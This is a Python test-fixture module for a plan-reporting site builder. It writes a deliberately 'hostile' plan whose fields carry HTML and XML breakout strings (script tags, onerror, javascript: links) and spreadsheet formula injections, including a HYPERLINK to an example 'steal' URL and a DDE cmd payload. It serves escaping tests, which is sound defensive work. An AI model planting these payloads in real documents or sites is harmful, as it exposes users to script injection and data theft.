"""Projects the site tests build: a copy of the example repository, and a small hostile one."""

from __future__ import annotations

import shutil
from datetime import date
from pathlib import Path

from planreport.project import Project
from planreport.site.build import SiteResult, build_site
from tests.conftest import ROOT

CASES = ROOT / "tests" / "cases"
EXAMPLE_AS_AT = date(2019, 12, 31)
HOSTILE_PLAN = """\
title: "Hostile <script>alert('title')</script> plan"
status_scheme:
  levels:
    - {key: done, label: Done, done: true, colour: "#0070C0"}
    - {key: going, label: "Going <b>well</b>", on_track: true, colour: "#FFC000"}
actions:
  - ref: "1"
    text: "=HYPERLINK(\\"https://example.org/steal?\\"&A1) <script>alert(1)</script> </script><img src=x onerror=alert(2)>"
    leads: [mallory]
    due: 2020-03
    updates:
      - {date: 2020-01-10, text: "+cmd|' /C calc'!A0 and \\"quotes\\" & ampersands", status: going}
      - {date: 2020-02-20, text: "Done. -2+3", status: done}
    completed: 2020-02-20
  - ref: "2"
    text: "@SUM(1) [a link](javascript:alert(3)) </textarea>"
    due: 2020-06
    revisions:
      - {due: 2020-09, reason: "Moved: ]]></summary><evil/>", agreed: 2020-05-01}
"""
HOSTILE_PEOPLE = """\
people:
  mallory:
    name: "Mallory <i>Evil</i> \\"Quotes\\""
"""


def example_copy(folder: Path) -> Path:
    """The example repository's plans, papers, layouts and configuration, copied to folder."""
    for name in ("plans", "templates"):
        if (ROOT / name).is_dir():
            shutil.copytree(ROOT / name, folder / name)
    shutil.copy(ROOT / "planreport.yaml", folder / "planreport.yaml")
    return folder


def hostile(folder: Path, config: str = "council:\n  name: Hostile & <Co>\n") -> Path:
    """A project of one plan whose every text tries to break out of HTML, XML or a spreadsheet."""
    (folder / "plans").mkdir(parents=True)
    (folder / "plans" / "hostile.yaml").write_text(HOSTILE_PLAN, encoding="utf-8")
    (folder / "plans" / "people.yaml").write_text(HOSTILE_PEOPLE, encoding="utf-8")
    (folder / "planreport.yaml").write_text(config, encoding="utf-8")
    return folder


def site(folder: Path, as_at: date = EXAMPLE_AS_AT, out: Path | None = None) -> SiteResult:
    """The project's site built into out (default: its build/site)."""
    target = out or folder / "build" / "site"
    return build_site(Project(folder), target, folder / "build", as_at)
